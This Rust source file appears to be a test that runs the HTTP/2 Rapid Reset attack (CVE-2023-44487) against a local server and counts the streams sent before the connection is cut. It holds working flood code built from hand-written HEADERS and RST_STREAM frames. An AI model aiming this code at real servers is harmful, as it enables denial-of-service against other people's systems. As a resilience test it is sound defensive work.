//! Rapid reset (CVE-2023-44487): opens and resets HTTP/2 streams until the connection is closed.
//! Uses hand-written frames, because client libraries do not support this.

use super::client::{Clients, Hand, PATH};
use crate::edge_table::host;
use crate::shared::frames::{
    END_HEADERS, END_STREAM, GOAWAY, HEADERS, PREFACE, RST_STREAM, SETTINGS, frame, get,
};
use anyhow::Result;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const MOST: usize = 3_000;
/// Pause between two streams, in which the server must process the first.
const APART: Duration = Duration::from_micros(200);

/// Number of streams until the connection was closed; `None` if it was not.
pub async fn until_cut(port: u16, clients: &Clients) -> Result<Option<usize>> {
    let name = host(0);
    let (mut reading, mut writing) = tokio::io::split(clients.shake(Hand::Two, port, &name).await?);
    let heard = tokio::spawn(async move {
        let mut head = [0; 9];
        while reading.read_exact(&mut head).await.is_ok() && head[3] != GOAWAY {
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
            let mut rest = vec![0; usize::try_from(length).unwrap_or(0)];
            if reading.read_exact(&mut rest).await.is_err() {
                return;
            }
        }
    });
    // Empty SETTINGS.
    writing.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
    let fields = get(&name, PATH);
    for number in 0..MOST {
        let stream = u32::try_from(number)? * 2 + 1;
        let frames = [
            frame(HEADERS, END_STREAM | END_HEADERS, stream, &fields),
            frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]),
        ]
        .concat();
        if writing.write_all(&frames).await.is_err() || writing.flush().await.is_err() {
            return Ok(Some(number));
        }
        tokio::time::sleep(APART).await;
        if heard.is_finished() {
            return Ok(Some(number + 1));
        }
    }
    Ok(None)
}
